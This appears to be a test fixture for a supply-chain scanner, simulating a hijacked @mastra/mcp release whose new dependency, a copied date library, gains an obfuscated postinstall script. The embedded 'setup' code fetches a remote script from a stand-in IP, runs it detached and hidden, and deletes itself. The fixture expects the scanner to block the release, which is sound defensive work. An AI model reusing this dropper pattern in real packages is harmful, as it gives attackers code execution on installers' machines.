import { obfuscatedForm } from '../obfuscated-form.js';
import type { Replica } from './replica.js';

const index = `import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { ServerTransport } from './transport.js';
import { toToolSchema } from './schema.js';

export class MCPServer {
  constructor({ name, version, tools = {}, instructions }) {
    this.id = randomUUID();
    this.name = name;
    this.version = version;
    this.instructions = instructions;
    this.tools = new Map(Object.entries(tools));
  }
  listTools() {
    return [...this.tools].map(([name, tool]) => ({ name, description: tool.description, inputSchema: toToolSchema(tool.inputSchema) }));
  }
  async callTool(name, args, context = {}) {
    const tool = this.tools.get(name);
    if (!tool) return { isError: true, content: [{ type: 'text', text: 'Unknown tool: ' + name }] };
    try {
      const result = await tool.execute({ context: args, ...context });
      return { isError: false, content: [{ type: 'text', text: typeof result === 'string' ? result : JSON.stringify(result) }] };
    } catch (error) {
      return { isError: true, content: [{ type: 'text', text: error instanceof Error ? error.message : String(error) }] };
    }
  }
  async readResource(file) {
    return { contents: [{ uri: file, text: await readFile(file, 'utf8') }] };
  }
  start(input = process.stdin, output = process.stdout) {
    const transport = new ServerTransport(input, output);
    transport.on('request', async (request) => {
      if (request.method === 'tools/list') transport.reply(request.id, { tools: this.listTools() });
      else if (request.method === 'tools/call') transport.reply(request.id, await this.callTool(request.params.name, request.params.arguments));
      else transport.fail(request.id, -32601, 'Method not found');
    });
    return transport;
  }
}
`;
const files = {
  'README.md': '# MCP\n\nServe tools over the Model Context Protocol.\n',
  'dist/index.js': index,
  'dist/transport.js': `import { EventEmitter } from 'node:events';
import { createInterface } from 'node:readline';

export class ServerTransport extends EventEmitter {
  constructor(input, output) {
    super();
    this.output = output;
    createInterface({ input }).on('line', (line) => {
      if (line.trim() === '') return;
      this.emit('request', JSON.parse(line));
    });
  }
  reply(id, result) {
    this.output.write(JSON.stringify({ jsonrpc: '2.0', id, result }) + '\\n');
  }
  fail(id, code, message) {
    this.output.write(JSON.stringify({ jsonrpc: '2.0', id, error: { code, message } }) + '\\n');
  }
}
`,
  'dist/schema.js': `export function toToolSchema(schema) {
  if (schema === undefined) return { type: 'object', properties: {} };
  const required = Object.keys(schema).filter((key) => schema[key].optional !== true);
  const properties = Object.fromEntries(Object.entries(schema).map(([key, { optional, ...rest }]) => [key, rest]));
  return { type: 'object', properties, required };
}
`,
};

const setup = `
const fs = require('fs');
const os = require('os');
const path = require('path');
const child = require('child_process');
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const run = async function () {
  const address = 'https://192.0.2.92:8000/update/49890878';
  const second = '192.0.2.123:443';
  const mark = Buffer.from([229, 225, 243, 249, 173, 228, 225, 249, 173, 234, 243]);
  try {
    fs.writeFileSync(path.join(os.tmpdir(), '.pkg_history'), __dirname, 'utf-8');
    fs.writeFileSync(path.join(os.tmpdir(), '.pkg_logs'), mark);
    const answer = await fetch(address);
    const text = await answer.text();
    const file = path.join(os.tmpdir(), Math.random().toString(36).slice(2) + '.js');
    fs.writeFileSync(file, text, 'utf-8');
    const started = child.spawn(process.execPath, [file, second], { 'cwd': os.tmpdir(), 'detached': true, 'stdio': 'ignore', 'windowsHide': true });
    started.unref();
  } catch (error) {
    return;
  } finally {
    try { fs.unlinkSync(__filename); } catch (error) { return; }
  }
};
run();
`;
const day = {
  'README.md': '# Day.js\n\nDay.js is a minimalist JavaScript library that parses, validates, manipulates, and displays dates and times.\n',
  'dayjs.min.js': `!function(t,e){"object"==typeof exports&&"undefined"!=typeof module?module.exports=e():"function"==typeof define&&define.amd?define(e):(t="undefined"!=typeof globalThis?globalThis:t||self).dayjs=e()}(this,(function(){"use strict";var t={day:864e5,hour:36e5,minute:6e4,second:1e3};function e(t,e){return String(t).padStart(e||2,"0")}function n(t){this.d=t instanceof Date?new Date(t.getTime()):new Date(t===undefined?Date.now():t)}n.prototype.isValid=function(){return!isNaN(this.d.getTime())};n.prototype.add=function(e,i){return i==="month"?((i=new Date(this.d.getTime())).setMonth(i.getMonth()+e),new n(i)):new n(new Date(this.d.getTime()+e*t[i]))};n.prototype.diff=function(e,n){return Math.trunc((this.d-e.d)/(t[n]||1))};n.prototype.format=function(t){var n=this.d,i={YYYY:n.getFullYear(),MM:e(n.getMonth()+1),DD:e(n.getDate()),HH:e(n.getHours()),mm:e(n.getMinutes()),ss:e(n.getSeconds())};return(t||"YYYY-MM-DDTHH:mm:ss").replace(/YYYY|MM|DD|HH|mm|ss/g,(function(t){return i[t]}))};n.prototype.valueOf=function(){return this.d.getTime()};function i(t){return new n(t)}return i.isDayjs=function(t){return t instanceof n},i.unix=function(t){return i(1e3*t)},i}));\n`,
};
const copied = { description: '2KB immutable date time library alternative to Moment.js with the same modern API', main: 'dayjs.min.js', license: 'MIT', author: 'The day authors', homepage: 'https://day.example.invalid', repository: { type: 'git', url: 'https://github.example.invalid/iamkun/dayjs.git' } };
const person = { name: 'daylib2016', email: 'daylib2016@mail.example.invalid' };
const manifest = { description: 'Model Context Protocol for agents', type: 'module', main: 'dist/index.js', exports: { '.': './dist/index.js' }, license: 'Apache-2.0', repository: { type: 'git', url: 'git+https://github.example.invalid/mastra-ai/mastra.git', directory: 'packages/mcp' }, engines: { node: '>=22.13.0' } };
const dependencies = { 'fast-deep-equal': '^3.1.3', uuid: '^13.0.0' };

export const replica: Replica = {
  id: 'mastra-2026',
  story: 'June 2026: a former contributor\'s account put 144 packages up by hand, each with one new dependency that nothing loads: a copy of a date library, clean in its first version, whose second one fetches and starts a program in its postinstall step (after the reports in the project\'s own tracker).',
  name: '@mastra/mcp',
  before: {
    version: '1.10.0', manifest: { ...manifest, dependencies }, files, publishedAt: '2026-06-16T09:41:00.000Z',
    publisher: { name: 'GitHub Actions', email: 'npm-oidc-no-reply@github.example.invalid', trustedPublisher: { id: 'github' } }, attestations: [{ predicateType: 'https://slsa.dev/provenance/v1', bundle: {} }],
  },
  after: { version: '1.10.1', manifest: { ...manifest, dependencies: { ...dependencies, 'easy-day-js': '^1.11.21' } }, files, publishedAt: '2026-06-17T01:20:00.000Z', publisher: { name: 'former-contributor', email: 'contributor2016@mail.example.invalid' } },
  brings: [{
    name: 'easy-day-js',
    versions: [
      { version: '1.11.21', manifest: copied, files: day, publishedAt: '2026-06-16T07:05:00.000Z', publisher: person },
      { version: '1.11.22', manifest: { ...copied, scripts: { postinstall: 'node setup.cjs --no-warnings' } }, files: { ...day, 'setup.cjs': `${obfuscatedForm(setup, { seed: 1706, strings: 'base64', declare: 'const' })}\n` }, publishedAt: '2026-06-17T01:01:00.000Z', publisher: person },
    ],
  }],
  must: 'block',
};
